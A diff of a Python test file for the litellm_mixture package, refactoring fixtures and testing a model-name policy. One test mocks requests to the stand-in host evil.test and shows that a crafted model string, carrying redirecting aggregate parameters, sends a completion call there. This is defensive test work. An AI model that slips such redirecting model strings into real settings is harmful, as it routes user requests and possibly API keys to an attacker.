@@ -19,7 +19,7 @@ import respx
 
 import litellm_mixture
 from litellm_mixture import PolicyError, policy
-from tests.test_provider import URL, Upstream
+from tests.respx_upstream import RespxUpstream
 from tests.upstream_process import ROOT
 
 ASK = [{"role": "user", "content": "Hi"}]
@@ -27,25 +27,23 @@ REDIRECTED = 'mixture/{"steps":[{"aggregate":{"model":"openai/x","params":{"api_
 RULES = {"allow_members": ["openai/*"], "max_name_bytes": 4096}
 
 
-@pytest.fixture
-def upstream(monkeypatch):
+@pytest.fixture(autouse=True)
+def no_policy(monkeypatch):
+    """No policy enforced at the start or left behind by a test."""
     monkeypatch.setattr(policy, "_enforced", None)  # as at start: read the environment again
     monkeypatch.delenv(policy.ENV, raising=False)
-    fake = Upstream()
-    with respx.mock(assert_all_called=False) as mock:
-        mock.post(URL).mock(side_effect=fake)
-        yield fake
+    yield
     litellm_mixture.set_policy(None)
 
 
-def test_without_an_opt_in_a_model_string_is_trusted_like_code(upstream):
+def test_without_an_opt_in_a_model_string_is_trusted_like_code(respx_upstream):
     with respx.mock(assert_all_called=False) as mock:
-        evil = mock.post("https://evil.test/v1/chat/completions").mock(side_effect=Upstream())
+        evil = mock.post("https://evil.test/v1/chat/completions").mock(side_effect=RespxUpstream())
         litellm.completion(model=REDIRECTED, messages=ASK)
     assert evil.call_count == 1  # what the warning in docs/python.md is about
 
 
-def test_set_policy_checks_every_name_before_any_call(upstream):
+def test_set_policy_checks_every_name_before_any_call(respx_upstream):
     litellm_mixture.set_policy(RULES)
     with pytest.raises(PolicyError, match="rule 'allow_params'"):
         litellm.completion(model=REDIRECTED, messages=ASK)
@@ -58,7 +56,7 @@ def test_set_policy_checks_every_name_before_any_call(upstream):
             litellm.completion(
                 model="mixture/openai/a*8>openai/b*8>openai/c", messages=ASK, stream=stream
             )
-    assert upstream.requests == []
+    assert respx_upstream.requests == []
     answer = litellm.completion(model="mixture/openai/a*2>openai/b", messages=ASK)
     assert answer.choices[0].message.content.endswith("aggregating 2 references")
     litellm_mixture.set_policy(None)
